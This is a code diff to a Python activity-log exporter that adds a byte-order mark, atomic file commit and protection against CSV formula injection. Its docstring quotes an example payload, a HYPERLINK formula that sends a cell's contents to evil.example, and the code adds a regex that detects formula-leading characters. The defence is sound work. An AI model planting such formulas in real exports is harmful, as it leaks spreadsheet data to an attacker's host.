@@ -1,4 +1,11 @@
-"""An activity log as CSV or JSON Lines: every field of every entry, a page at a time."""
+"""An activity log as CSV or JSON Lines: every field of every entry, a page at a time.
+
+CSV is for spreadsheets: it starts with a UTF-8 byte-order mark (without one, Excel reads
+UTF-8 as the system's code page: "NÃºÃ±ez"), and a text cell that a spreadsheet would take
+for a formula gets a leading ``'`` (OWASP's advice on CSV injection): a member named
+``=HYPERLINK("https://evil.example/?leak="&A1,"x")`` is shown, never run. JSON Lines,
+for programs, keeps every value exact.
+"""
 
 from __future__ import annotations
 
@@ -19,10 +26,22 @@ from ..render.convert import entry_text
 from ..render.safety import clean
 from .output import Output
 
-__all__ = ["FIELDS", "FORMATS", "activity_row", "export_activity", "export_activity_file"]
+__all__ = [
+    "FIELDS",
+    "FORMATS",
+    "activity_row",
+    "export_activity",
+    "export_activity_file",
+    "neutralised",
+]
 
 FORMATS = ("csv", "jsonl")
 FIELDS = ("id", "created", "group_id", "via", "text", "entry")
+BOM = "\ufeff"
+
+# What starts a formula: = + - @ after any spaces (spreadsheets skip them), or a tab or a
+# carriage return as the very first character.
+_FORMULA = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
 
 Progress = Callable[[int, int | None], None]
 Write = Callable[[str], Awaitable[None]]
@@ -41,12 +60,23 @@ def activity_row(entry: ActivityEntry) -> dict[str, Any]:
     }
 
 
+def neutralised(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula, made text with a leading ``'``.
+
+    Numbers are ours (ids), never a formula: they stay numbers.
+    """
+    if isinstance(value, str) and _FORMULA.match(value):
+        return "'" + value
+    return value
+
+
 def _csv_lines(rows: list[dict[str, Any]], *, header: bool) -> str:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=FIELDS, lineterminator="\n")
     if header:
+        buffer.write(BOM)
         writer.writeheader()
-    writer.writerows(rows)
+    writer.writerows({name: neutralised(value) for name, value in row.items()} for row in rows)
     return buffer.getvalue()
 
 
@@ -84,8 +114,8 @@ async def export_activity_file(
 ) -> tuple[Path, int]:
     """The log as the query filters it, as CSV in a new file in ``directory``.
 
-    For the reader's ``e``: the file is opened, written and closed off the event loop.
-    Returns the file and how many entries it holds.
+    For the reader's ``e``: the file is opened, written and closed off the event loop, and
+    appears only once whole. Returns the file and how many entries it holds.
     """
     stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
     path = directory / f"lurker-activity-{_UNSAFE_NAME.sub('_', group_name)}-{stamp}.csv"
@@ -97,6 +127,7 @@ async def export_activity_file(
             await asyncio.to_thread(output.write, text)
 
         written = await export_activity(library, group_name, query, "csv", write, _quiet)
+        await asyncio.to_thread(output.commit)  # a failed export leaves no file
     finally:
         await asyncio.to_thread(output.__exit__, None, None, None)
     return path, written
